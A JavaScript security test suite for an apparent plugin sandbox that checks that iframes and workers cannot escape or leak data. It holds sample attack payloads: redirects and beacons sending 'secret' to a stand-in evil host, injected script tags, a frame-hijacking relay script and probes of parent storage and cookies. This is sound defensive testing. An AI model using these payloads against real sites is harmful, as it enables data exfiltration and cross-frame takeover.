// THREATS 19, 21, 23 and 24: the frame in which a plugin's code runs. What speaks here are hostile documents in the frame's place.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { EVIL, framePolicy, leak, openLab, reason, relay } from "./lab.js";

let lab;
before(async () => {
  lab = await openLab();
});
after(() => lab.close());

/** Somebody else's document. */
const there = (n) => `${EVIL}/there/${n}`;
const html = { "content-type": "text/html; charset=utf-8" };
/** A document that says it is ready as the relay does, and then does what it wants. */
const hostile = (name, script) => {
  lab.routes[name] = { body: `<!doctype html><script>parent.postMessage({ portico: "ready" }, "*"); ${script}</script>`, headers: html };
  return `{ frameUrl: "${name}" }`;
};
const SHOWS = `exported.render = (connection) => callHost(connection.mutate, [[0, "~", text("1", "shown"), 0]])`;
const isShown = (page) => page.waitForFunction(() => window.root().textContent === "shown", null, { timeout: 8_000 });
const arrived = () => lab.requests.filter(({ host }) => host.startsWith("evil.")).map(({ path }) => path);

test("THREATS 19: a frame that goes elsewhere tells nobody, and is ended", async () => {
  lab.routes["/redirect"] = { status: 302, headers: { location: `${there(4)}` } };
  const ways = {
    "location": `location = "${there(1)}?secret"`,
    "location.replace": `location.replace("${there(2)}?secret")`,
    "meta refresh": `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0;url=${there(3)}?secret">')`,
    "a redirect of the host": `location = "/redirect"`,
    "a link that is clicked": `document.body.innerHTML = '<a href="${there(5)}?secret">x</a>'; document.querySelector("a").click()`,
  };
  // The page says which frames there are; the policy is what Portico's pages have (server/src/pages/csp.rs), and docs ask of others.
  const guarded = lab.routes["/guarded"];
  lab.routes["/with-frames"] = { ...guarded, headers: { ...guarded.headers, "content-security-policy": "frame-src 'self'" } };
  let n = 0;
  for (const [way, script] of Object.entries(ways)) {
    n += 1;
    const options = hostile(`/leaves-${n}`, `addEventListener("DOMContentLoaded", () => setTimeout(() => { ${script} }, 200))`);
    const open = await lab.plugin("", options);
    assert.equal(await reason(open), "frame_navigated", way);
    assert.equal(await open.evaluate(() => document.querySelectorAll("iframe").length + document.querySelector("#place").childElementCount), 0);
    assert.equal(arrived().length, 1, `control: ${way} gets out of a page that does not say which frames there are`);
    const closed = await lab.plugin("", options, "/with-frames");
    await closed.waitForTimeout(600);
    assert.deepEqual(arrived(), [], way);
  }
  // Without a look at its loads the frame goes where it wants, and stays.
  const path = lab.without({ "frame.js": [[`frame.addEventListener("load", () => receiver.load());`, ""]] });
  const control = await lab.plugin("", hostile("/leaves", `setTimeout(() => (location = "${there(9)}"), 200)`), path);
  await control.waitForTimeout(1_000);
  assert.deepEqual([arrived().length, await control.evaluate(() => window.states.map(([state]) => state))], [1, ["loading"]], "control");
});

test("THREATS 19: from a plugin's worker no way leads to another address", async () => {
  const ways = `
    const ways = {
      assign: () => (location = "${leak(1)}"), href: () => (location.href = "${leak(2)}"), replace: () => location.replace("${leak(3)}"), open: () => open("${leak(4)}"),
      beacon: () => navigator.sendBeacon("${leak(5)}", "secret"), worker: () => new Worker("${leak(6)}"), fetch: () => fetch("${leak(7)}", { mode: "no-cors" }), late: () => fetch("${leak(8)}", { mode: "no-cors", keepalive: true }),
      scripts: () => importScripts("${leak(9)}"), module: () => import("${leak(10)}"), image: () => new Image(), events: () => new EventSource("${leak(11)}"), nested: () => new Worker(URL.createObjectURL(new Blob(["fetch('${leak(12)}', { mode: 'no-cors' })"]))),
      error: () => Promise.reject(new Error("${leak(13)}")), stack: () => { throw Object.assign(new Error(), { stack: "at ${leak(14)}" }); },
    };
    const tryAll = async () => { for (const way of Object.values(ways)) try { await Promise.race([way(), new Promise((done) => setTimeout(done, 50))]); } catch {} };`;
  const control = await lab.page("/unguarded");
  await control.evaluate((code) => void (window.worker = new Worker(URL.createObjectURL(new Blob([`${code} tryAll();`])))), ways);
  await control.waitForTimeout(1_500);
  // The first four are what a document has; a worker has no such ways, and no beacon. Errors are only said.
  assert.deepEqual(arrived().map((path) => Number(path.split("/").at(-1))).sort((a, b) => a - b), [7, 8, 9, 10, 11, 12], "control: a worker of the page's own");
  const page = await lab.plugin(`${ways} exported.render = async (connection) => { await tryAll(); await callHost(connection.mutate, [[0, "~", text("1", "shown"), 0]]); }`);
  await isShown(page);
  await page.waitForTimeout(300);
  assert.deepEqual(arrived(), []);
});

test("THREATS 21: markup in the frame sends nothing, with a nonce or without", async () => {
  const inject = (evil) => {
    const nonce = "t";
    const add = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
    add("script", { nonce, src: `${evil}/hit/1?secret` });
    add("img", { src: `${evil}/hit/5` });
    add("iframe", { src: `${evil}/hit/6` });
    add("link", { rel: "stylesheet", href: `${evil}/hit/7` });
    add("link", { rel: "prefetch", href: `${evil}/hit/8` });
    document.body.append(Object.assign(document.createElement("form"), { action: `${evil}/hit/10` }));
    document.forms[0].submit();
    // As a parser has it, which is how markup is injected.
    document.write(`<script nonce="t" src="${evil}/hit/2?secret"></scr` + `ipt><link rel="preload" as="script" nonce="t" href="${evil}/hit/3?secret"><link rel="modulepreload" nonce="t" href="${evil}/hit/4"><base href="${evil}"><script nonce="t" src="/hit/9"></scr` + `ipt>`);
    document.close();
  };
  const numbers = () => arrived().map((path) => Number(/\d+/.exec(path)[0])).sort((a, b) => a - b);
  lab.routes["/frame-with-nonce"] = { body: `<!doctype html><body><script nonce="t">${relay}</script>`, headers: { ...html, "content-security-policy": framePolicy("'nonce-t'").replace("base-uri 'none'; ", "") } };
  const ran = async (options) => {
    const page = await lab.plugin(SHOWS, options);
    await isShown(page);
    await page.frames()[1].evaluate(inject, EVIL);
    await page.waitForTimeout(500);
    return page;
  };
  await ran(`{ frameUrl: "/frame-with-nonce" }`);
  assert.deepEqual(numbers().filter((n) => [1, 2].includes(n)), [1, 2], "control: with a nonce they get out");
  await ran("{}");
  assert.deepEqual(numbers(), []);
});

/** Takes over whichever relay takes its start: it would run this code, and tell this port. */
const STRANGER = `setInterval(() => {
  for (let at = 0; at < parent.frames.length; at++) {
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = ({ data }) => parent.postMessage({ taken: Array.isArray(data) ? data[0] : "bytes" }, "*");
    parent.frames[at].postMessage({ portico: "start", code: "onmessage = ({ data: [kind, id] }) => postMessage([kind + 1, id])", name: "evil", limits: { message_bytes: 9999, messages_per_second: 99, depth: 9 } }, "*", [port2]);
    parent.frames[at].postMessage({ portico: "ready" }, "*");
    parent.frames[at].postMessage(["post", [1, "x", "render", []]], "*");
  }
}, 1);`;

test("THREATS 23: one frame starts, feeds or answers no other", async () => {
  const stranger = hostile("/stranger", STRANGER);
  lab.routes["/frame-of-anybody"] = { body: `<!doctype html><script>${relay.replace("event.source !== parent || ", "")}</script>`, headers: html };
  assert.notEqual(lab.routes["/frame-of-anybody"].body.length, lab.routes["/frame"].body.length);
  const beside = async (frameUrl) => {
    const page = await lab.plugin(SHOWS, `(() => {
      window.taken = [];
      addEventListener("message", ({ data }) => data?.taken && window.taken.push(data.taken));
      const stranger = Object.assign(document.createElement("div"), { id: "stranger" });
      document.body.append(stranger);
      const frame = Object.assign(document.createElement("iframe"), { src: "/stranger" });
      frame.setAttribute("sandbox", "allow-scripts");
      stranger.append(frame);
      return { frameUrl: "${frameUrl}" };
    })()`);
    return page;
  };
  assert.ok(stranger);
  // Who is first is a matter of luck.
  let isTaken = false;
  for (let tries = 0; tries < 5 && !isTaken; tries++) {
    const control = await beside("/frame-of-anybody");
    isTaken = await control.waitForFunction(() => window.taken.includes("up"), null, { timeout: 3_000 }).then(() => true, () => false);
  }
  assert.ok(isTaken, "control: a relay that hears everybody is taken over");
  const page = await beside("/frame");
  await isShown(page);
  await page.waitForTimeout(500);
  assert.deepEqual(await page.evaluate(() => [window.taken, window.states.map(([state]) => state)]), [[], ["loading", "live"]]);
});

test("THREATS 24: only the plugin's own window is heard, whatever origin a message has", async () => {
  // The stranger says that it is ready before the real frame is there.
  hostile("/eager", `setInterval(() => parent.postMessage({ portico: "ready" }, "*"), 5)`);
  lab.routes["/slow-frame"] = { ...lab.routes["/frame"], delay: 700 };
  const options = `(() => {
    const frame = Object.assign(document.createElement("iframe"), { src: "/eager" });
    frame.setAttribute("sandbox", "allow-scripts");
    document.body.append(frame);
    setInterval(() => postMessage({ portico: "ready" }, "*"), 5);
    return { frameUrl: "/slow-frame" };
  })()`;
  const path = lab.without({ "frame.js": [["event.source !== frame.contentWindow || ", ""]] });
  const control = await lab.plugin(SHOWS, options, path);
  assert.equal(await reason(control), "start_timeout", "control: it takes the stranger's word, and speaks to nobody");
  await isShown(await lab.plugin(SHOWS, options));
});

test("THREATS 24 and PARITY 39: the code and the port are handed over once, and taken once", async () => {
  // A frame that asks again is not given another port.
  const asking = hostile("/asks-again", `
    let got = 0;
    addEventListener("message", ({ ports }) => { got += ports.length; parent.postMessage({ got }, "*"); });
    for (let n = 1; n < 5; n++) setTimeout(() => parent.postMessage({ portico: "ready" }, "*"), n * 100);`);
  const count = async (path) => {
    const page = await lab.plugin(SHOWS, `(addEventListener("message", ({ data }) => data?.got && (window.got = data.got)), ${asking})`, path);
    await page.waitForTimeout(900);
    return page.evaluate(() => window.got);
  };
  const path = lab.without({ "frame.js": [["!receiver.ready(this.now())", "(receiver.ready(this.now()), false)"], ["code.then(", `addEventListener("message", this.onReady); code.then(`]] });
  assert.ok((await count(path)) > 2, "control");
  assert.equal(await count("/guarded"), 1);

  // A relay that has its plugin takes no other, not even from the page.
  lab.routes["/frame-that-listens-on"] = { body: `<!doctype html><script>${relay.replace(`removeEventListener("message", start);`, "")}</script>`, headers: html };
  const again = async (options) => {
    const page = await lab.plugin(SHOWS, options);
    await isShown(page);
    return page.evaluate(() => new Promise((resolve) => {
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => resolve(data[0]);
      setTimeout(resolve, 700, "nothing");
      window[0].postMessage({ portico: "start", code: "onmessage = ({ data: [kind, id] }) => postMessage([kind + 1, id])", name: "evil", limits: { message_bytes: 9999, messages_per_second: 99, depth: 9 } }, "*", [port2]);
    }));
  };
  assert.equal(await again(`{ frameUrl: "/frame-that-listens-on" }`), "up", "control");
  assert.equal(await again("{}"), "nothing");
});

test("PARITY 45: a plugin's frame is of no origin, and may do nothing but run scripts", async () => {
  lab.routes["/saved"] = { body: "x", headers: { "content-type": "application/octet-stream" } };
  // The document comes without a policy of its own here: the attribute has to hold by itself.
  const options = hostile("/grabs", `
    const could = {};
    const attempt = (name, way) => { try { could[name] = Boolean(way()); } catch { could[name] = false; } };
    attempt("page", () => parent.document.title && ((parent.pwned ??= []).push(1), true));
    attempt("storage", () => (localStorage.setItem("a", "b"), true));
    attempt("cookies", () => ((document.cookie = "a=b"), document.cookie));
    attempt("origin", () => origin !== "null");
    attempt("popup", () => open("/saved"));
    attempt("dialog", () => (parent.said = false, alert("x"), true));
    document.documentElement.insertAdjacentHTML("beforeend", '<a href="/saved" download>x</a>');
    document.querySelector("a").click();
    setTimeout(() => parent.postMessage({ could }, "*"), 200);`);
  const grab = async (path) => {
    const page = await lab.plugin("", `(addEventListener("message", ({ data }) => data?.could && (window.could = data.could)), ${options})`, path);
    await page.waitForFunction(() => window.could);
    await page.waitForTimeout(300);
    return { could: await page.evaluate(() => Object.keys(window.could).filter((name) => window.could[name])), pwned: await page.evaluate(() => window.pwned), saved: page.about.downloads.length, popups: page.about.popups.length };
  };
  const wide = lab.without({ "frame.js": [[`frame.setAttribute("sandbox", "allow-scripts");`, `frame.setAttribute("sandbox", "allow-scripts allow-same-origin allow-popups allow-modals allow-downloads");`]] });
  const control = await grab(wide);
  assert.deepEqual([control.could, control.pwned, control.saved > 0], [["page", "storage", "cookies", "origin", "popup", "dialog"], [1], true], "control");
  assert.deepEqual(await grab("/guarded"), { could: [], pwned: undefined, saved: 0, popups: 0 });
});
